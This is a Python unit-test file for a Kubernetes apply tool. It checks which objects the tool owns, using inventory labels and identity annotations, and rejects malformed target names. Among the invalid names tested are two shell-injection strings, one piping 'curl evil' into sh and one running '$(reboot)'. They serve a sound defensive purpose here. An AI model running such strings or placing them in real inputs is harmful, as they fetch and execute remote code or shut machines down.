"""Whose member an object is."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from handler.model.names import IDENTITY, PART_OF, identity_of
from handler.plan.inventory import as_ours, is_member, marked_target
from handler.plan.ownership import foreign_owner
from tests.unit.plan.samples import OURS, SET, document, member


def ours(live: dict[str, Any]) -> bool:
    return is_member(live, identity_of(live), OURS)


def test_the_inventory_label_and_identity_annotation_together_are_ownership() -> None:
    assert ours(member(document()))


@pytest.mark.parametrize(
    "change",
    [
        {"labels": {PART_OF: "applyset-another-v1"}},
        {"labels": None},
        {"annotations": None},
        {"annotations": {IDENTITY: "shop:/ConfigMap:shop/original"}},
        {"annotations": {IDENTITY: "bank:/ConfigMap:shop/web"}},
        {"annotations": {IDENTITY: "shop:apps/ConfigMap:shop/web"}},
        {"annotations": {IDENTITY: "shop:/ConfigMap:bank/web"}},
        {"annotations": {IDENTITY: "shop:/ConfigMap:shop/web2"}},
    ],
)
def test_a_copied_or_missing_inventory_mark_is_no_ownership(change: dict[str, Any]) -> None:
    live = member(document())
    live["metadata"] |= change
    assert not ours(live)


def marked(mark: str) -> dict[str, Any]:
    return document(metadata={"namespace": "shop", "annotations": {IDENTITY: mark}})


def test_an_identity_annotation_names_its_target_only_on_exactly_its_object() -> None:
    live = marked("bank:/ConfigMap:shop/web")
    assert marked_target(live, identity_of(live)) == "bank"
    assert marked_target(live, replace(identity_of(live), name="copy")) == ""
    assert marked_target(marked("grafana.shop.main:/ConfigMap:shop/web"), identity_of(live)) == "grafana.shop.main"
    ours = as_ours(live, identity_of(live), OURS.marks)
    assert (is_member(ours, identity_of(live), OURS), marked_target(live, identity_of(live))) == (True, "bank")


@pytest.mark.parametrize(
    "name", ["x`; curl evil | sh; `", "$(reboot)", "a b", "Bank", "bank..de", "", "-b", "b\n", 57 * "b", f"{61 * 'b'}.de"]
)
def test_an_identity_annotation_with_an_invalid_target_name_names_none(name: str) -> None:
    """Messages, and the commands in them, repeat the name."""
    live = marked(f"{name}:/ConfigMap:shop/web")
    live["metadata"]["labels"] = {PART_OF: "applyset-x-v1"}
    assert marked_target(live, identity_of(live)) == ""
    found = foreign_owner(live, identity_of(live), SET)
    assert found
    assert found.name == "ApplySet applyset-x-v1"
